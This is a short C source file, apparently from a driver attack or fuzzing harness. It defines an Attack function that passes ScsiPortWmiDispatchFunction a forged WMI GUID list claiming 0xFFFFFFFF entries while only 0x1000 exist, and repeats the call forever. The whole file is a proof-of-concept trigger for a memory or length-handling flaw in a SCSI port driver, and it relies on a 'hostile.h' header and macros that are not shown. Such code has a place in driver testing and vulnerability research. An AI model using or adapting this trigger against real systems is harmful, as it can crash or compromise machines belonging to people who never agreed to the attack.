// A list of GUIDs that says it has four thousand million.
#include "hostile.h"

void Attack(MOMENT_OF_ATTACK *At) {
    static ULONG64 library[16], guid[2], request[8];
    static struct { void *Guid; ULONG64 Instances; } list[0x1000];
    static UCHAR other[16] = { 1 };
    for (ULONG i = 0; i < 0x1000; i++) list[i].Guid = guid;
    library[0] = 0xFFFFFFFF;
    library[1] = (ULONG64)list;
    FOREVER ScsiPortWmiDispatchFunction(library, 4, At->Extension, request, other, 0, NULL);
}
